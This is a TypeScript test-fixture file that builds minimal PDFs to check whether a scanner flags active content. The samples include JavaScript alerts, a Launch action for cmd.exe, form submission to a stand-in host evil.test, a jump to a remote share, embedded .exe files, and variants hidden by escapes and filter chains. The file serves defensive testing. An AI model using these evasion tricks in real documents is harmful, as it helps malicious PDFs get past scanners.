import { deflateSync } from 'node:zlib';

type Objects = Record<number, string>;

const INDEX = '7 0 ';

const page: Objects = {
  1: '<< /Type /Catalog /Pages 2 0 R >>',
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
};

/** Written by hand, so that a test says exactly what is in it. */
export function pdf(changes: Objects = {}, trailer = ''): Buffer {
  const objects = { ...page, ...changes };
  const offsets: string[] = [];
  let text = '%PDF-1.7\n';
  for (const [number, body] of Object.entries(objects)) {
    offsets.push(`${String(text.length).padStart(10, '0')} 00000 n \n`);
    text += `${number} 0 obj\n${body}\nendobj\n`;
  }
  const size = offsets.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text + table + end, 'latin1');
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const linked = (action: string): Objects => ({
  3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
  4: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`,
});

export const scripted: Record<string, Buffer> = {
  'when opened': pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` }),
  'by name': pdf({
    1: `<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`,
  }),
  'on a page': pdf({ 3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O ${script} >> >>` }),
  'on a link': pdf(linked(script)),
  'on a link, spelled with escapes': pdf(linked(script.replace('JavaScript', 'J#61vaScript'))),
  'in a compressed object': pdf({ ...linked('5 0 R'), 5: 'null', 6: compressedObject(script) }),
};

const launch = '<< /S /Launch /F (cmd.exe) >>';
const opened = (action: string) => pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>` });
const catalogued = (entry: string, more: Objects = {}) =>
  pdf({ 1: `<< /Type /Catalog /Pages 2 0 R ${entry} >>`, ...more });

export const active: Record<string, Buffer> = {
  'a program to launch': opened(launch),
  'a program to launch from a link': pdf(linked(launch)),
  'a program to launch, spelled with escapes': opened(launch.replace('Launch', '#4caunch')),
  'a program to launch in a compressed object': pdf({
    ...linked('5 0 R'),
    5: 'null',
    6: compressedObject(launch),
  }),
  'a form that is sent away': pdf(linked('<< /S /SubmitForm /F (http://evil.test) >>')),
  'data to import': pdf(linked('<< /S /ImportData /F (a.fdf) >>')),
  'a jump to another file': opened('<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>'),
  'a jump into an embedded file': opened('<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>'),
  'an embedded file': catalogued('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', {
    4: '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    5: '<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream',
  }),
  'a file pinned to the page': pdf({
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>',
    4: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>',
  }),
  'an XFA form': catalogued('/AcroForm << /Fields [] /XFA 4 0 R >>', {
    4: '<< /Length 1 >>\nstream\nx\nendstream',
  }),
  'an XFA form in parts': catalogued('/AcroForm << /Fields [] /XFA [(form) 4 0 R] >>', {
    4: '<< /Length 1 >>\nstream\nx\nendstream',
  }),
};

export const passive: Record<string, Buffer> = {
  'a link to a page of the web': pdf(linked('<< /S /URI /URI (https://tribunal.test) >>')),
  'a jump within itself': pdf(linked('<< /S /GoTo /D [3 0 R /Fit] >>')),
  'a form to fill': catalogued('/AcroForm << /Fields [] >>'),
  'compressed objects': pdf({ 6: compressedObject('<< /Type /Font >>') }),
  'compressed objects in a list of one filter': pdf({
    6: objectStream('/Type /ObjStm /Filter [ /FlateDecode ]', deflateSync(`${INDEX}null`).toString('latin1')),
  }),
};

function compressedObject(object: string): string {
  const body = deflateSync(INDEX + object).toString('latin1');
  return objectStream('/Type /ObjStm /Filter /FlateDecode', body);
}

function objectStream(entries: string, body: string): string {
  const dictionary = `${entries} /N 1 /First ${INDEX.length} /Length ${body.length}`;
  return `<< ${dictionary} >>\nstream\n${body}\nendstream`;
}

const hexOf = (bytes: Buffer) => `${bytes.toString('hex')}>`;
const within = (stream: string) => pdf({ ...linked('5 0 R'), 5: 'null', 6: stream });
const flate = deflateSync(INDEX + launch);

export const obscured: Record<string, Buffer> = {
  'a chain of filters': within(
    objectStream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', hexOf(flate)),
  ),
  'a chain that begins with Flate': within(
    objectStream(
      '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]',
      deflateSync(hexOf(flate)).toString('latin1'),
    ),
  ),
  'one other filter': within(
    objectStream('/Type /ObjStm /Filter /ASCIIHexDecode', hexOf(Buffer.from(INDEX + launch))),
  ),
  'filters named elsewhere': within(objectStream('/Type /ObjStm /Filter 8 0 R', hexOf(flate))),
  'a predictor': within(
    objectStream(
      '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
      flate.toString('latin1'),
    ),
  ),
  'a type spelled with escapes': within(
    objectStream('/Type /Obj#53tm /Filter /ASCIIHexDecode', hexOf(Buffer.from(INDEX + launch))),
  ),
  'no type': within(objectStream('/Filter /ASCIIHexDecode', hexOf(Buffer.from(INDEX + launch)))),
  'damaged data': within(objectStream('/Type /ObjStm /Filter /FlateDecode', 'no flate')),
};

const key = 'A'.repeat(32);

export const encrypted = pdf(
  { 4: `<< /Filter /Standard /V 1 /R 2 /P -4 /O (${key}) /U (${key}) >>` },
  '/Encrypt 4 0 R /ID [(0123456789abcdef) (0123456789abcdef)]',
);
